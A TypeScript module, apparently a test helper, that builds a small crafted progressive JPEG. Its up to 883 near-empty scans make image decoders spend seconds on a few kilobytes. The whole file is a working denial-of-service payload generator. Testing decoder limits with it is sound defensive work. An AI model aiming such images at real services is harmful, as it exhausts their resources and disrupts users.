const MARKER = 0xff;

function segment(marker: number, content: readonly number[]): Buffer {
  const length = content.length + 2;
  return Buffer.from([MARKER, marker, length >> 8, length & 255, ...content]);
}

/** A Huffman table of one symbol, whose code is the bit 0. */
const tableOf = (kind: number, symbol: number) => [kind, 1, ...Array<number>(15).fill(0), symbol];

/** Skips the rest of up to 32,767 blocks: the symbol and the 14 low bits of the count. */
const LONGEST_RUN = 32_767;
const RUN_BITS = `0${"1".repeat(14)}`;

/** Entropy-coded bits, filled up with ones; the byte FF is escaped. */
function bytesOf(bits: string): Buffer {
  const whole = bits.padEnd(Math.ceil(bits.length / 8) * 8, "1");
  const bytes = whole.match(/.{8}/g)?.map((byte) => Number.parseInt(byte, 2)) ?? [];
  return Buffer.from(bytes.flatMap((byte) => (byte === MARKER ? [MARKER, 0] : [byte])));
}

/** A grey progressive JPEG with a scan for each bit of each coefficient, up to 883: some kilobytes that decode for seconds. */
export function hostileJpeg(side: number, scans: number): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const nothing = bytesOf(RUN_BITS.repeat(Math.ceil(blocks / LONGEST_RUN)));
  const steps = Array.from({ length: scans - 1 }, (_, index) => {
    const [coefficient, bit] = [1 + Math.floor(index / 14), 13 - (index % 14)];
    const precision = bit === 13 ? bit : ((bit + 1) << 4) | bit;
    return Buffer.concat([segment(0xda, [1, 1, 0, coefficient, coefficient, precision]), nothing]);
  });
  return Buffer.concat([
    Buffer.from([MARKER, 0xd8]),
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    segment(0xc2, [8, side >> 8, side & 255, side >> 8, side & 255, 1, 1, 0x11, 0]),
    segment(0xc4, [...tableOf(0, 0), ...tableOf(0x10, 0xe0)]),
    segment(0xda, [1, 1, 0, 0, 0, 0]),
    bytesOf("0".repeat(blocks)),
    ...steps,
    Buffer.from([MARKER, 0xd9]),
  ]);
}
